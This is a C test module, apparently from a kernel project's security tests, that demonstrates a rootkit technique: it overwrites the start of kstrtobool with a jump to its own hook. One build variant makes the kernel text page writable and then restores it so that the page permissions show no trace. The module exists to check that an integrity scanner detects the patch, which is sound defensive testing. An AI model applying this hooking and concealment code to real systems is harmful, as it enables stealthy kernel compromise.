// SPDX-License-Identifier: MIT
/*
 * rk_text.c - TEST MODULE (rootkit technique): patch the base kernel's
 * text with an inline hook.
 *
 * The classic inline hook: the first bytes of a kernel function become a
 * jump into the module.  The target is kstrtobool (an export, so the
 * module knows where it is).  Built without RK_MPROTECT the module writes
 * straight into the kernel's text, which is mapped read-only and
 * executable: the write faults and the kernel reports an oops naming the
 * module.  Built with RK_MPROTECT (as rk_textmp) it first makes the page
 * writable with a raw mprotect system call -- what a Linux rootkit does by
 * clearing CR0.WP -- patches, and makes the page read-only again, leaving
 * no trace in the page permissions; the integrity scanner's hash of the
 * kernel's text finds the patch and the module it jumps to.  The module
 * has no exit function: the hook must stay valid.  Never installed; built
 * for tests/security only.
 */
#include "rootkit.h"

#define PAGE 4096ul

/* The hook: what kstrtobool now does (refuse everything). */
int rk_text_hook(const char *s, bool *res);
int rk_text_hook(const char *s, bool *res)
{
	return -22;
}

static int __init rk_text_init(void)
{
	uint8_t *target = (uint8_t *)(uintptr_t)kstrtobool;
	int32_t rel = (int32_t)((intptr_t)(uintptr_t)rk_text_hook -
				(intptr_t)(target + 5));
	uint8_t patch[5] = { 0xe9 };

	memcpy(patch + 1, &rel, 4);
#ifdef RK_MPROTECT
	uintptr_t page = (uintptr_t)target & ~(PAGE - 1);

	if (rootkit_syscall3(ROOTKIT_SYS_MPROTECT, (long)page, 2 * PAGE,
			     ROOTKIT_PROT_RWX)) {
		pr_err("mprotect failed\n");
		return -1;
	}
#endif
	pr_info("patching kstrtobool at %p\n", target);
	memcpy(target, patch, sizeof(patch));
#ifdef RK_MPROTECT
	rootkit_syscall3(ROOTKIT_SYS_MPROTECT, (long)page, 2 * PAGE,
			 ROOTKIT_PROT_RX);
#endif
	pr_info("kstrtobool hooked\n");
	return 0;
}

module_init(rk_text_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("TEST ONLY: rootkit technique, inline hook in kernel text");
